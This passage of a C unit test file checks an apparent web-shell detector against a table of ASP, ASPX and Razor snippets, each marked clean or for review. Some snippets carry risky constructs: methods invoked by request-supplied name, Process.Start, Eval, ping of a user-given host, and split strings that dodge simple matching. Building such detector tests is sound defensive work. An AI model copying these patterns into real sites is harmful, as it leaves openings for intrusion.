      "a number in a statement", PAGE_ASP, PAGE_CLEAN },
    { "{o} Dim tpl : tpl = Replace(ReadFile(\"skin.htm\"), \"{title}\", {r}(\"t\")) : Response.Write tpl\nFunction ReadFile(n)\nSet f = "
      "Server.Create""Object(\"Scri""pting.FileSyst""emObject\").OpenTextFile(Server.MapPath(\"skins/\" & n)) : ReadFile = f.ReadAll : f.Close\nEnd Function "
      "{c}",
      "a skin", PAGE_ASP, PAGE_CLEAN },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var m = GetType().GetMeth""od(\"Do\" + {r}[\"action\"], BindingFlags.NonPublic | "
      "BindingFlags.Instance); if (m != null) m.Invoke(this, null); } void DoList() { Response.Write(\"list\"); } void DoSave() { Session[\"x\"] = "
      "{r}[\"x\"]; }</{s}>",
      "methods by name", PAGE_ASPX, PAGE_REVIEW },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { if (!User.IsInRole(\"admin\")) return; var f = Server.MapPath(\"~/App_Data/backup-\" + "
      "DateTime.Now.ToString(\"yyyyMMdd\") + \".zip\"); System.IO.Compression.ZipFile.CreateFromDirectory(Server.MapPath(\"~/content\"), f); "
      "Response.TransmitFile(f); }</{s}>",
      "a backup", PAGE_ASPX, PAGE_CLEAN },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var t = new XslCompiledTransform(); t.Lo""ad(Server.MapPath(\"~/feed.xsl\")); "
      "t.Transform(XmlReader.Create(\"https://news.bakery.example/rss?\" + {r}[\"cat\"]), null, Response.Output); }</{s}>",
      "a feed", PAGE_ASPX, PAGE_CLEAN },
    { "{o} Set m = Server.Create""Object(\"CDO.Message\") : m.From = \"shop@bakery.example\" : m.To = \"office@bakery.example\" : m.Subject = "
      "{r}.Form(\"subject\") : m.TextBody = {r}.Form(\"text\") : m.Send : Response.Write \"thanks\" {c}",
      "a form by mail", PAGE_ASP, PAGE_CLEAN },
    { "{o}@ WebHandler {l}=\"VB\" Class=\"T\" {c}\nImports System.Web\nImports System.IO\nPublic Class T\nImplements IHttpHandler\nPublic Sub {p}{r}(c As "
      "HttpContext) Implements IHttpHandler.{p}{r}\nDim f = c.{r}.QueryString(\"f\")\nIf f.Contains(\"..\") Then Return\nUsing b As New "
      "System.Drawing.Bitmap(c.Server.MapPath(\"~/images/\" & f))\nb.Save(c.Response.OutputStream, System.Drawing.Imaging.ImageFormat.Png)\nEnd Using\nEnd "
      "Sub\nPublic ReadOnly Property IsReusable As Boolean Implements IHttpHandler.IsReusable\nGet\nReturn True\nEnd Get\nEnd Property\nEnd Class",
      "a picture, smaller", PAGE_ASHX, PAGE_CLEAN },
    { "{o} a = CDbl({r}(\"a\")) : b = CDbl({r}(\"b\")) : op = {r}(\"op\")\nSelect Case op\nCase \"+\" : r = Eval(a & \"+\" & b)\nCase \"-\" : r = Eval(a & "
      "\"-\" & b)\nEnd Select\nResponse.Write r {c}",
      "sums of numbers", PAGE_ASP, PAGE_CLEAN },
    { "{o} If IsEmpty(Application(\"menu\")) Then Application(\"menu\") = \"Response.Write \"\"menu\"\"\" \n{x} Application(\"menu\") {c}",
      "code of its own, kept", PAGE_ASP, PAGE_REVIEW },
    { "{o}@ Page {l}=\"C#\" Validate{r}=\"false\" {c}<{s} {a}>void Save(object s, EventArgs e) { File.{w}(Server.MapPath(\"~/App_Data/pages/\" + "
      "int.Parse({r}[\"id\"]) + \".html\"), body.Text); }</{s}><form {a}><asp:TextBox id=\"body\" {a} TextMode=\"MultiLine\"/><asp:Button {a} "
      "OnClick=\"Save\"/></form>",
      "a page below App_Data", PAGE_ASPX, PAGE_REVIEW },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var p = new System.Net.NetworkInformation.Ping(); Response.Write(p.Send({r}[\"host\"]).Status); "
      "}</{s}>",
      "is it there", PAGE_ASPX, PAGE_REVIEW },
    { "{o} Set u = Server.Create""Object(\"Persits.Upload\") : u.Save Server.MapPath(\"/upload\") : For Each f In u.Files : If LCase(f.Ext) = \".jpg\" Then "
      "f.{f} Server.MapPath(\"/upload/\") & Session(\"user\") & \".jpg\"\nNext {c}",
      "an upload under a known name", PAGE_ASP, PAGE_REVIEW },
    { "@{ ViewBag.Title = \"Search\"; var q = {r}[\"q\"]; Layout = \"~/Views/_Layout.cshtml\"; }\n<h1>@ViewBag.Title @q</h1>@foreach (var i in Model.Items) "
      "{ <li>@i.Name</li> }",
      "a search", PAGE_RAZOR_CS, PAGE_CLEAN },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { string exe = Path.Combine({r}.PhysicalApplicationPath, "
      "ConfigurationManager.AppSettings[\"tool\"]); {p}.Start(exe); }</{s}>",
      "a tool of the site", PAGE_ASPX, PAGE_REVIEW },
};

static const struct { const struct technique *row; size_t n; } tables[] = {
    { techniques, COUNT_OF(techniques) }, { by_language, COUNT_OF(by_language) }, { by_api, COUNT_OF(by_api) }, { honest, COUNT_OF(honest) }, { by_parts, COUNT_OF(by_parts) },
};

static bool fits(const struct technique *q)
{
    char              text[8192];
    size_t            n = shape_text(text, sizeof text, q->plan);
    struct test_arena keep = test_arena(1 << 20), t = test_arena(ROOM);
    struct str        in = test_heap(text, n);
    struct analysis   r = { 0 };
    struct err        e = { 0 };

    CHECK_WHY(analyse_page(&r, &keep.a, t.a, &(const struct analyse_input){ .bytes = in, .kind = q->kind }, &e), q->why);
    bool ok = r.verdict == q->verdict;
    if (!ok)
        print_message("%s: %s: %.*s\n", q->why, analyse_verdict_name(r.verdict), STR_ARG(r.why));
    test_free(in);
    test_arena_free(&t);
    test_arena_free(&keep);
    return ok;
}

static void test_techniques(void **state)
{
    size_t bad = 0;

    (void)state;
    for (size_t k = 0; k < COUNT_OF(tables); k++)
        for (size_t i = 0; i < tables[k].n; i++)
            bad += !fits(&tables[k].row[i]);
    CHECK(bad == 0);
}

/* A page that is cut anywhere gets an answer. */
static void cut_anywhere(const struct technique *q, size_t from, struct arena own, struct arena scratch)
{
    enum { STEP = 41 };
    char   text[8192];
    size_t n = shape_text(text, sizeof text, q->plan);

    for (size_t k = from % STEP; k < n; k += STEP) {
        struct str      in = test_heap(text, k);
        struct analysis r = { 0 };
        struct err      e = { 0 };
        struct arena    keep = own;

        CHECK_WHY(analyse_page(&r, &keep, scratch, &(const struct analyse_input){ .bytes = in, .kind = q->kind }, &e), q->why);
        test_free(in);
    }
}

static void test_prefixes(void **state)
{
    struct test_arena keep = test_arena(1 << 20), t = test_arena(ROOM);

    (void)state;
    for (size_t k = 0; k < COUNT_OF(tables); k++)
        for (size_t i = 0; i < tables[k].n; i++)
            cut_anywhere(&tables[k].row[i], i, keep.a, t.a);
    test_arena_free(&t);
    test_arena_free(&keep);
}

int main(void)
{
    static const struct CMUnitTest tests[] = { cmocka_unit_test(test_techniques), cmocka_unit_test(test_prefixes) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
